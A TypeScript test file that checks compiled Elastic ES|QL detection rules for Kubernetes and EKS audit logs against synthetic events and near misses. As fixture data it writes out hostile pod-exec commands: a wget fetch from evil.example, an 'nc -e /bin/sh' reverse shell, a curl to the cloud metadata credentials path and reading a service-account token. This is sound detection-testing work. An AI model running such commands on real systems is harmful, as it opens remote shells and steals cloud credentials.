/**
 * Elastic's ES|QL rules, unmodified: what each must report, in one delivery, in many, out of order and again, and near
 * misses.
 */
import { describe, expect, it } from 'vitest';
import { compileRules } from '../../src/compile/compile.ts';
import { loadRules } from '../../src/compile/rules/load.ts';
import type { RuleSet } from '../../src/match/rule-set.ts';
import type { JsonObject } from '../../src/schema/audit-event.ts';
import { auditTarget } from '../../src/source/audit/target.ts';
import { schemaErrors } from '../alert/sample.ts';
import { benchFor, day, get, minute, second } from '../correlate/events.ts';
import { loadModule, runtime } from '../load-module.ts';
import { sharedData } from '../shared-data.ts';

interface Scenario {
  readonly rule: string;
  /** Makes new requests each time it is called. */
  readonly reported: () => readonly JsonObject[];
  /** What the alert tells, among other things. */
  readonly values: Readonly<Record<string, unknown>>;
  readonly misses: Readonly<Record<string, () => readonly JsonObject[]>>;
}

const allowed = { annotations: { 'authorization.k8s.io/decision': 'allow' } };
const refused = { annotations: { 'authorization.k8s.io/decision': 'forbid' } };
const mallory = {
  user: { username: 'mallory', groups: ['system:authenticated'] },
  sourceIPs: ['198.51.100.7'],
  userAgent: 'kubectl/v1.33.1 (linux/amd64)',
};

function exec(command: readonly string[], at = 0, more: JsonObject = {}): JsonObject {
  const words = command.map((word) => `command=${encodeURIComponent(word)}`).join('&');
  return get(at, {
    ...mallory,
    ...allowed,
    requestURI: `/api/v1/namespaces/shop/pods/web/exec?${words}&container=app&stdout=true`,
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web', apiVersion: 'v1' },
    ...more,
  });
}

const secret = (name: string, at: number, more: JsonObject = {}) =>
  get(at, {
    ...mallory,
    ...allowed,
    objectRef: { resource: 'secrets', namespace: 'shop', name, apiVersion: 'v1' },
    ...more,
  });

const burst = (prefix: string): Scenario => ({
  rule: `${prefix}Kubernetes Rapid Secret GET Activity Against Multiple Objects`,
  reported: () => ['a', 'b', 'c'].map((name, index) => secret(name, index * 80 * second)),
  values: { 'Esql.unique_credentials': 3, 'Esql.secrets_names': ['a', 'b', 'c'], 'user.name': 'mallory' },
  misses: {
    'two of them': () => ['a', 'b', 'a'].map((name, index) => secret(name, index)),
    'in more than six minutes': () => ['a', 'b', 'c'].map((name, index) => secret(name, index * 4 * minute)),
    'releases of Helm': () => [1, 2, 3].map((n) => secret(`sh.helm.release.v1.web.v${n}`, n)),
    'from several addresses each': () =>
      ['a', 'b', 'c'].map((name, index) => secret(name, index, { sourceIPs: ['10.0.0.1', '10.0.0.2'] })),
    'by several callers': () =>
      ['a', 'b', 'c'].map((name, index) => secret(name, index, { user: { username: name } })),
  },
});

const metadata = (prefix: string): Scenario => ({
  rule: `${prefix}Kubernetes Pod Exec Cloud Instance Metadata Access`,
  reported: () => [exec(['curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'])],
  values: { 'Esql.cloud_target': 'AWS_IMDS', 'Esql.is_credential_theft': 'yes' },
  misses: {
    'another address': () => [exec(['curl', 'http://169.254.170.2/'])],
    'an attach': () => [
      exec(['curl', 'http://169.254.169.254/'], 0, {
        objectRef: { resource: 'pods', subresource: 'attach' },
      }),
    ],
    'no command': () => [exec([])],
  },
});

const sensitive = (prefix: string): Scenario => ({
  rule: `${prefix}Kubernetes Pod Exec Sensitive File or Credential Path Access`,
  reported: () => [exec(['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'])],
  values: { 'Esql.access_type': 'AWS_IRSA_TOKEN' },
  misses: {
    'the resolver’s file': () => [exec(['cat', '/etc/resolv.conf', '/etc/passwd'])],
    'another file': () => [exec(['cat', '/srv/index.html'])],
  },
});

const resources = ['pods', 'roles', 'nodes', 'configmaps', 'namespaces', 'serviceaccounts'];

const enumeration = (who: JsonObject) => () =>
  resources.map((resource, index) =>
    get(index * 50 * second, {
      ...mallory,
      ...who,
      ...(index % 2 === 0 ? allowed : refused),
      level: 'Request',
      verb: 'list',
      requestURI: `/api/v1/${resource}`,
      objectRef: { resource, apiVersion: 'v1' },
      responseStatus: { code: index % 2 === 0 ? 200 : 403 },
    }),
  );

const repeated = (events: readonly JsonObject[], times: number): readonly JsonObject[] =>
  Array.from({ length: times }, (_, index) =>
    events.map((event) => ({ ...event, auditID: `${String(event.auditID)}-${index}` })),
  ).flat();

const role = (rules: JsonObject, verb = 'update') => ({
  ...mallory,
  ...allowed,
  verb,
  level: 'RequestResponse',
  objectRef: { resource: 'clusterroles', name: 'everything', apiGroup: 'rbac.authorization.k8s.io' },
  requestObject: { kind: 'ClusterRole', rules: [rules] },
  responseObject: { kind: 'ClusterRole', rules: [rules] },
});
const everything = { verbs: ['*'], resources: ['*'], apiGroups: ['*'] };

const arc = (at: number, more: JsonObject = {}) =>
  secret('token', at, { user: { username: 'system:serviceaccount:azure-arc:proxy' }, ...more });

const kubernetes: readonly Scenario[] = [
  burst(''),
  metadata(''),
  sensitive(''),
  {
    rule: 'Kubernetes Pod Exec with Curl or Wget to HTTPS',
    reported: () => [exec(['sh', '-c', 'wget -qO- https://evil.example/x'])],
    values: { 'Esql.executed_command': 'sh -c wget -qO- https://evil.example/x' },
    misses: {
      'without TLS': () => [exec(['curl', 'http://evil.example/x'])],
      'a check of its own': () => [exec(['curl', '-k', 'https://localhost/healthz'])],
    },
  },
  {
    rule: 'Kubernetes Pod Exec Potential Reverse Shell',
    reported: () => [exec(['sh', '-c', 'nc -e /bin/sh 198.51.100.7 4444'])],
    values: { command: 'sh -c nc -e /bin/sh 198.51.100.7 4444' },
    misses: {
      'a look for open ports': () => [exec(['nc', '-zv', '10.0.0.1', '443'])],
      'a check of its own': () => [exec(['bash', '-c', '</dev/tcp/127.0.0.1/8080'])],
    },
  },
  {
    rule: 'Kubernetes Potential Endpoint Permission Enumeration Attempt Detected',
    reported: enumeration({}),
    values: {
      'Esql.document_count': 6,
      'Esql.kubernetes_audit_objectRef_resource_count_distinct': 6,
      'kubernetes.audit.user.username': 'mallory',
    },
    misses: {
      'nothing refused': () => enumeration({})().map((event) => ({ ...event, ...allowed })),
      'four endpoints': () => enumeration({})().slice(0, 4),
      'a caller that asks all the time': () => repeated(enumeration({})(), 13),
    },
  },
  {
    rule: 'Kubernetes Potential Endpoint Permission Enumeration Attempt by Anonymous User Detected',
    reported: enumeration({ user: { username: 'system:anonymous' } }),
    values: {
      'Esql.authz_forbid_count': 3,
      'Esql.document_count': 6,
      'user_agent.original': mallory.userAgent,
    },
    misses: {
      somebody: enumeration({}),
      'metadata alone is logged': () =>
        enumeration({ user: { username: 'system:anonymous' } })().map((event) => ({
          ...event,
          level: 'Metadata',
        })),
      'probes without end': () => repeated(enumeration({ user: { username: 'system:anonymous' } })(), 9),
    },
  },
  {
    rule: 'Kubernetes Multi-Resource Discovery',
    reported: () =>
      enumeration({})()
        .slice(0, 3)
        .map((event, index) => ({
          ...event,
          requestReceivedTimestamp: new Date(Date.UTC(2026, 2, 2, 0, 1, 10 * index)).toISOString(),
          stageTimestamp: new Date(Date.UTC(2026, 2, 2, 0, 1, 10 * index)).toISOString(),
        })),
    values: { 'Esql.unique_resources': 3, 'Esql.time_interval': '2026-03-02T00:01:00.000Z' },
    misses: {
      'in three minutes': () => enumeration({})().filter((_, index) => index % 2 === 0),
      'a controller': () =>
        enumeration({ user: { username: 'system:serviceaccount:kube-system:namespace-controller' } })(),
    },
  },
  {
    rule: 'Kubernetes Secret or ConfigMap Access via Azure Arc Proxy',
    reported: () => [arc(0)],
    values: { 'Esql.event_count': 1, 'Esql.resource_name_values': 'token' },
    misses: {
      'another service account': () => [secret('token', 0)],
      'in its own namespace': () => [
        arc(0, { objectRef: { resource: 'secrets', namespace: 'azure-arc', name: 'x' } }),
      ],
    },
  },
  {
    rule: 'Kubernetes Creation or Modification of Sensitive Role',
    reported: () => [get(0, role({ verbs: ['escalate'], resources: ['clusterroles'] }, 'create'))],
    values: {},
    misses: {
      'harmless verbs': () => [get(0, role({ verbs: ['get'], resources: ['pods'] }, 'create'))],
      'from the node itself': () => [get(0, { ...role(everything, 'create'), sourceIPs: ['127.0.0.1'] })],
    },
  },
  {
    rule: 'Kubernetes RBAC Wildcard Elevation on Existing Role',
    reported: () => [get(0, role(everything))],
    values: {},
    misses: {
      'a creation': () => [get(0, role(everything, 'create'))],
      'one resource': () => [get(0, role({ verbs: ['*'], resources: ['pods'] }))],
      refused: () => [get(0, { ...role(everything), ...refused })],
    },
  },
];

const eks: readonly Scenario[] = ['AWS EKS - '].flatMap((prefix) => [
  burst(prefix),
  metadata(prefix),
  sensitive(prefix),
]);

async function rulesOf(folder: string, name?: string): Promise<RuleSet> {
  const loaded = loadRules([folder]).rules.filter(
    ({ type, metadata: { name: found } }) => type === 'esql' && (name === undefined || found === name),
  );
  const { module, skipped, problems } = compileRules(loaded, { target: auditTarget, runtime });
  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(skipped).toEqual([]);
  return ((await loadModule(module)) as { ruleSet: RuleSet }).ruleSet;
}

describe.each([
  ['Kubernetes', sharedData('elastic-rules/kubernetes'), kubernetes],
  ['EKS', sharedData('elastic-rules/eks'), eks],
] as const)('the ES|QL rules of Elastic’s %s pack', (_, folder = '', scenarios) => {
  it.skipIf(folder === '')('are built, all of them', async () => {
    const { rules } = await rulesOf(folder);
    expect(rules.map(({ rule }) => rule.name).toSorted()).toEqual(
      scenarios.map(({ rule }) => rule).toSorted(),
    );
  });

  it.skipIf(folder === '').each(scenarios.map((each) => [each.rule, each] as const))(
    '%s: once, however it is delivered',
    async (name, { reported, values }) => {
      const rules = await rulesOf(folder, name);
      const events = reported();
      const orders = [events, events.toReversed()];
      for (const order of orders) {
        const whole = benchFor(rules);
        await whole.deliver(order);
        await whole.deliver(order);
        expect(whole.alerts).toHaveLength(1);
        const apart = benchFor(rules);
        for (const event of [...order, ...order]) {
          await apart.deliver([event]);
          apart.restart();
        }
        expect(apart.alerts.map(({ event }) => event.id)).toEqual(whole.alerts.map(({ event }) => event.id));
        for (const alert of [...whole.alerts, ...apart.alerts]) {
          expect(alert.harrier.values ?? {}).toMatchObject(sortedIn(values, alert.harrier.values));
          expect(schemaErrors(alert)).toEqual([]);
        }
      }
    },
  );

  const misses = scenarios.flatMap(({ rule, misses: of }) =>
    Object.entries(of).map(([what, events]) => ({ rule, what, events })),
  );
  it.skipIf(folder === '').each(misses)('$rule: misses $what', async ({ rule, events }) => {
    const bench = benchFor(await rulesOf(folder, rule));
    await bench.deliver(events());
    expect(bench.alerts).toEqual([]);
  });
});

/** Lists are in the order in which events came: the same values in any order are as good. */
function sortedIn(
  wanted: Readonly<Record<string, unknown>>,
  found: Readonly<Record<string, unknown>> = {},
): Readonly<Record<string, unknown>> {
  return Object.fromEntries(
    Object.entries(wanted).map(([name, value]) => {
      const other = found[name];
      const isSame =
        Array.isArray(value) &&
        Array.isArray(other) &&
        JSON.stringify(value.toSorted()) === JSON.stringify(other.toSorted());
      return [name, isSame ? other : value];
    }),
  );
}

describe('what Elastic’s rule on the proxy of Azure Arc reports', () => {
  const folder = sharedData('elastic-rules/kubernetes');
  it.skipIf(folder === undefined)('is new for five days', async () => {
    const bench = benchFor(
      await rulesOf(folder ?? '', 'Kubernetes Secret or ConfigMap Access via Azure Arc Proxy'),
    );
    await bench.deliver([arc(0)]);
    for (const at of [10 * minute, day, 4 * day, 8 * day]) {
      bench.restart();
      await bench.deliver([arc(at)]);
    }
    expect(bench.alerts).toHaveLength(1);
    await bench.deliver([arc(13.5 * day)]);
    expect(bench.alerts).toHaveLength(2);
  });
});
